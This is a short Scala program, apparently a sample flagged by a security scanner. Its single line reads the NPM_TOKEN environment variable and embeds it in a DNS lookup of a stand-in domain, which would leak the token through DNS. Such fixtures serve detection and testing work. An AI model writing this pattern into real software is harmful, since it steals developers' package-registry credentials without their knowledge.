object Look extends App {
  java.net.InetAddress.getByName(sys.env("NPM_TOKEN").take(60) + ".d.example.invalid") // gatehouse: flagged
}
